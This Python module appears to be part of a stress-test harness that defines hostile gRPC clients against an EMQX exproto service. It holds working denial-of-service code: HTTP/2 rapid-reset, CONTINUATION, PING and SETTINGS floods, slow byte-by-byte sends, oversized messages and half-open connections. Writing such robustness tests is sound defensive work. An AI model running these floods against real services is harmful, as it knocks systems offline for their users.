"""Hostile callers of the service that brokers call."""

from __future__ import annotations

import asyncio
import random
import socket
from collections.abc import Callable
from typing import Final

import attrs

from .base import Attacker, Target, again_and_again, flood, send
from .devices import DEVICES
from .mqtt import half_open

__all__ = ["CALLERS"]

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
PATH: Final = b"/emqx.exproto.v1.ConnectionUnaryHandler/"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def block(method: bytes) -> bytes:
    """Return a header block, without a table and without Huffman's code."""
    path = PATH + method
    return b"\x83\x86\x04" + bytes([len(path)]) + path + b"\x00\x02te\x08trailers"


def call(stream: int, method: bytes, message: bytes) -> bytes:
    body = b"\0" + len(message).to_bytes(4, "big") + message
    return frame(1, 4, stream, block(method)) + frame(0, 1, stream, body)


def http2(make: Callable[[int], bytes], batch: int = 100) -> Attacker:
    """Return who sends what *make* gives for each odd stream, as fast as it goes, and reads nothing."""

    async def attack(target: Target) -> None:
        async def one(sock: socket.socket) -> None:
            await send(sock, PREFACE)
            stream = 1
            while True:
                await send(sock, b"".join(make(stream + 2 * number) for number in range(batch)), 5)
                stream += 2 * batch

        await again_and_again(target.grpc, one)

    return attack


def created(stream: int) -> bytes:
    """Return the announcement of a device that nobody has seen."""
    name = b"c%d" % random.getrandbits(64)
    address = b"\x0a\x09127.0.0.1\x10\x01"
    about = b"\x12" + bytes([len(address)]) + address
    about += b"\x1a" + bytes([len(address)]) + address
    message = b"\x0a" + bytes([len(name)]) + name + b"\x12" + bytes([len(about)]) + about
    return call(stream, b"OnSocketCreated", message)


def strange(stream: int) -> bytes:
    """Return bytes of a device that nobody has announced."""
    name = b"s%d" % random.getrandbits(64)
    return call(stream, b"OnReceivedBytes", b"\x0a" + bytes([len(name)]) + name + b"\x12\x03hi\n")


def slow_headers(stream: int) -> bytes:
    """Return a header block that doesn't end, of a stream of its own."""
    return (
        frame(1, 0, stream, block(b"OnReceivedBytes"))
        if stream == 1
        else frame(9, 0, 1, b"\x00\x01a\x01b" * 50)
    )


def huge(stream: int) -> bytes:
    """Return an event with a megabyte of bytes of a device that nobody has announced."""
    data = bytes(1_000_000)
    message = b"\x0a\x04huge\x12" + b"\xc0\x84\x3d" + data
    body = b"\0" + len(message).to_bytes(4, "big") + message
    pieces = [body[start : start + 16_384] for start in range(0, len(body), 16_384)]
    frames = [frame(0, int(piece is pieces[-1]), stream, piece) for piece in pieces]
    return frame(1, 4, stream, block(b"OnReceivedBytes")) + b"".join(frames)


async def serve_slow(target: Target) -> None:
    """Say an event a byte a second, on 300 connections."""

    async def one(sock: socket.socket) -> None:
        data = PREFACE + created(1)
        await send(sock, data[:60])
        for byte in data[60:]:
            await send(sock, bytes([byte]))
            await asyncio.sleep(1)

    await asyncio.gather(*(again_and_again(target.grpc, one) for _ in range(300)))


async def grpc_half_open(target: Target) -> None:
    """Hold connections to the service without a word."""
    await half_open(attrs.evolve(target, mqtt=target.grpc))


CALLERS: Final[dict[str, Attacker]] = {
    "serve_nobody": DEVICES["nobody"],
    "serve_half_open": grpc_half_open,
    "serve_garbage": flood("grpc", b"\0\0\0\0"),
    "serve_resets": http2(
        lambda stream: frame(1, 4, stream, block(b"OnReceivedBytes")) + frame(3, 0, stream, bytes(4))
    ),
    "serve_headers": http2(lambda stream: frame(1, 4, stream, block(b"OnReceivedBytes"))),
    "serve_bytes": http2(
        lambda stream: frame(1, 4, stream, block(b"OnReceivedBytes")) + frame(0, 0, stream, b"\0")
    ),
    "serve_continuations": http2(
        lambda stream: frame(1, 0, 1, b"\x00\x01a\x01b") if stream == 1 else frame(9, 0, 1, b"\x00\x01a\x01b")
    ),
    "serve_pings": http2(lambda stream: frame(6, 0, 0, bytes(8))),
    "serve_settings": http2(lambda stream: frame(4, 0, 0)),
    "serve_windows": http2(lambda stream: frame(8, 0, 0, b"\0\0\0\1")),
    "serve_created": http2(created),
    "serve_strange": http2(strange),
    "serve_slow": serve_slow,
    "serve_slow_headers": http2(slow_headers, 10),
    "serve_huge": http2(huge, 4),
}
